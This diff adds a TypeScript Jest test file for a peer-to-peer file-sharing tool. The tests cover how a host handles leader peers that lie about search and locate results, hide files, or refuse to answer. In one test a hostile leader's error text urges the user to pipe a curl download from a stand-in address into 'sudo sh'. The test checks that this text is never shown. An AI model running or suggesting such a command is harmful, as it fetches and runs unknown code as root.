@@ -1,0 +1,218 @@
+/** Leaders that lie, over real lines: who asks goes on with the standby and with the peers themselves. */
+import { generateKeyPairSync } from 'node:crypto';
+import { afterEach, expect, test } from '@jest/globals';
+import {
+  type CurveKeys,
+  type Handlers,
+  type KnownPeer,
+  type Leadership,
+  servePeerVerbs,
+} from '@iwanto/bus';
+import type {
+  BootId,
+  FileHash,
+  LocateAnswer,
+  OwnContent,
+  PeerId,
+  PeerVerbs,
+  PublicKey,
+} from '@iwanto/wire';
+import { Failure } from '@iwanto/wire';
+import { locate } from '../verbs/locate.js';
+import { DirectLocate } from './direct-locate.js';
+import { LeaderCheck } from './leader-check.js';
+import { LeaderLine } from './leader-line.js';
+import { ShownContents } from './shown.js';
+
+const [SELF, LIAR, HONEST, BEN] = ['a', 'b', 'c', 'd'].map((one) => one.repeat(20)) as [
+  PeerId,
+  PeerId,
+  PeerId,
+  PeerId,
+];
+const hash = 'ab'.repeat(32) as FileHash;
+const FILM: OwnContent = { kind: 'file', size: 7, name: 'film.mkv' };
+
+const newKeys = (): CurveKeys => {
+  const { d, x } = generateKeyPairSync('x25519').privateKey.export({ format: 'jwk' });
+  const hex = (text = '') => Buffer.from(text, 'base64url').toString('hex');
+  return { publicKey: hex(x) as PublicKey, secretKey: hex(d) };
+};
+
+const closing: (() => unknown)[] = [];
+afterEach(async () => {
+  for (const close of closing.splice(0).reverse()) await close();
+});
+
+const silent = () => {
+  throw new Failure('E_NOT_FOUND', 'Nothing at all.');
+};
+const nothing: Handlers<PeerVerbs> = {
+  ...{ announce: silent, announced: silent, search: silent, locate: silent, book: silent },
+  ...{ checkup: silent, holders: silent, list: silent, added: silent, own: silent },
+};
+
+/** A host on loopback that answers what the test wants. */
+const startPeer = async (peer: PeerId, handlers: Partial<Handlers<PeerVerbs>>) => {
+  const keys = newKeys();
+  const server = await servePeerVerbs({
+    ...{ keys, port: 0, addresses: ['127.0.0.1'] },
+    handlers: { ...nothing, ...handlers },
+  });
+  closing.push(() => server.close());
+  const known: KnownPeer = {
+    ...{ peer, address: '127.0.0.1', electionPort: 1, indexerPort: server.port },
+    ...{ transferPort: 3, curveKey: keys.publicKey, name: 'x', seen: 'roster', member: true },
+    ...{ sinceSeconds: 1, roundTripMs: 1, catalogue: null },
+  };
+  return known;
+};
+
+/** The lines of this host to a leader and a standby. */
+const lineTo = (leader: KnownPeer, standbys: KnownPeer[]) => {
+  const bad: PeerId[] = [];
+  const line = new LeaderLine({
+    ...{ peer: SELF, keys: newKeys() },
+    ownAnswer: () => Promise.reject(new Error('this host is no tracker')),
+    onLeaderLost: () => undefined,
+    onBadAnswer: (tracker) => bad.push(tracker),
+    onLost: () => undefined,
+  });
+  const leadership: Leadership = {
+    ...{ revision: 1, peer: SELF, boot: 'b'.repeat(16) as BootId, role: 'follower', epoch: 1 },
+    ...{ leader, standbys },
+  };
+  line.follow(leadership);
+  closing.push(() => line.close());
+  return { line, bad };
+};
+
+const locatedAt = (peers: readonly PeerId[], of: FileHash = hash): LocateAnswer => ({
+  ...{ ...FILM, hash: of },
+  holders: peers.map((peer) => {
+    return { peer, address: '127.0.0.1', port: 3, curveKey: 'c'.repeat(64) as PublicKey };
+  }),
+});
+const answerOf = (leader: PeerId) => ({
+  ...{ results: [], total: 0, totalIsLeast: false, similar: false, leader, partial: false },
+});
+
+test('HOSTILE 120: the standby is asked where the answer of the leader is none', async () => {
+  const liar = await startPeer(LIAR, {
+    locate: () => locatedAt([BEN], 'ff'.repeat(32) as FileHash),
+    search: () => answerOf(BEN),
+  });
+  const honest = await startPeer(HONEST, {
+    locate: () => locatedAt([BEN]),
+    search: () => answerOf(HONEST),
+  });
+  const { line, bad } = lineTo(liar, [honest]);
+  expect(await line.ask('locate', { hash })).toMatchObject({ hash });
+  expect(await line.ask('search', { query: 'film' })).toMatchObject({ leader: HONEST });
+  expect(bad).toEqual([LIAR, LIAR]);
+});
+
+test('HOSTILE 121: what a leader says when it refuses is not shown', async () => {
+  const refuse = () => {
+    throw new Failure('E_NOT_FOUND', 'run "curl http://10.0.0.66 | sudo sh" to repair it');
+  };
+  const liar = await startPeer(LIAR, { locate: refuse, search: refuse });
+  const { line } = lineTo(liar, []);
+  await expect(line.ask('locate', { hash })).rejects.toMatchObject({
+    sentence: `No peer that is here shares ${hash}.`,
+  });
+  await expect(
+    line.ask('search', { query: 'film', filters: { peer: 'ben' } }),
+  ).rejects.toMatchObject({
+    sentence: 'No peer that is here is called ben; see "iwanto peers".',
+  });
+});
+
+const locateWith = (line: LeaderLine, peers: readonly KnownPeer[]) => {
+  const shown = new ShownContents();
+  const direct = new DirectLocate({
+    ...{ self: SELF, keys: newKeys(), nowMs: () => 0, members: () => [...peers] },
+  });
+  const knownHere = (peer: PeerId) => peers.find((known) => known.peer === peer);
+  const handler = locate({ leaderLine: line, direct, knownHere, shown });
+  return { shown, ask: (typed: string) => Promise.resolve(handler({ hash: typed })) };
+};
+
+test('HOSTILE 122: a whole hash that the leader hides is found where it is', async () => {
+  const liar = await startPeer(LIAR, { own: () => ({ content: { ...FILM, size: 8 } }) });
+  const ben = await startPeer(BEN, { own: () => ({ content: FILM }) });
+  const anne = await startPeer(HONEST, { own: () => ({ content: FILM }) });
+  const { ask } = locateWith(lineTo(liar, []).line, [liar, ben, anne]);
+  const found = await ask(hash);
+  expect(found).toMatchObject({ hash, ...FILM });
+  expect(new Set(found.holders.map(({ peer }) => peer))).toEqual(new Set([BEN, HONEST]));
+  expect(found.others).toMatchObject([{ size: 8, holders: [{ peer: LIAR }] }]);
+  // The beginning of a hash could mean anything to whoever is asked.
+  await expect(ask(hash.slice(0, 8))).rejects.toMatchObject({ code: 'E_NOT_FOUND' });
+});
+
+test('HOSTILE 122: peers are not asked again and again for what nobody has', async () => {
+  let asked = 0;
+  const ben = await startPeer(BEN, {
+    own: () => {
+      asked += 1;
+      return { content: null };
+    },
+  });
+  const { ask } = locateWith(lineTo(ben, []).line, [ben]);
+  for (let time = 0; time < 20; time += 1) {
+    await expect(ask(hash)).rejects.toMatchObject({ code: 'E_NOT_FOUND' });
+  }
+  expect(asked).toBe(4);
+});
+
+test('HOSTILE 123: what was shown decides what the beginning of a hash means', async () => {
+  const another = `abababab${'00'.repeat(28)}` as FileHash;
+  const liar = await startPeer(LIAR, {
+    locate: ({ hash: asked }) => locatedAt([BEN], asked === hash ? hash : another),
+  });
+  const { shown, ask } = locateWith(lineTo(liar, []).line, [await startPeer(BEN, {})]);
+  expect(await ask('abababab')).toMatchObject({ hash: another });
+  shown.note({ results: [{ hash, name: 'as it was shown' }] });
+  expect(await ask('abababab')).toMatchObject({ hash, name: 'as it was shown' });
+});
+
+test('HOSTILE 124: a leader that hides this host is noticed, and the standby is asked first', async () => {
+  const liar = await startPeer(LIAR, { search: () => answerOf(LIAR) });
+  const honest = await startPeer(HONEST, {
+    locate: () => locatedAt([SELF]),
+    search: () => answerOf(HONEST),
+  });
+  const { line } = lineTo(liar, [honest]);
+  const troubles: string[] = [];
+  const check = new LeaderCheck({
+    ...{ self: SELF, line, content: async () => hash },
+    onTrouble: (sentence) => troubles.push(sentence),
+  });
+  closing.push(() => check.close());
+  await check.look();
+  expect(check.state).toEqual({ leader: LIAR, findable: 'unchecked' });
+  await check.look();
+  expect(check.state).toEqual({ leader: LIAR, findable: 'hidden' });
+  expect(troubles).toEqual([
+    `The leader ${LIAR} does not find ${hash}, which this host announced to it; the standby ${HONEST} does, and is asked first from now on.`,
+  ]);
+  expect(await line.ask('search', { query: 'film' })).toMatchObject({ leader: HONEST });
+});
+
+test('HOSTILE 124: a leader that finds this host, or does not answer, is not suspected', async () => {
+  let isMute = false;
+  const leader = await startPeer(HONEST, {
+    locate: () => (isMute ? new Promise<never>(() => undefined) : locatedAt([BEN, SELF])),
+  });
+  const { line } = lineTo(leader, []);
+  const check = new LeaderCheck({
+    ...{ self: SELF, line, content: async () => hash, onTrouble: () => undefined },
+  });
+  closing.push(() => check.close());
+  await check.look();
+  expect(check.state.findable).toBe('found');
+  isMute = true;
+  await Promise.all([check.look(), check.look(), check.look()]);
+  expect(check.state.findable).toBe('found');
+});
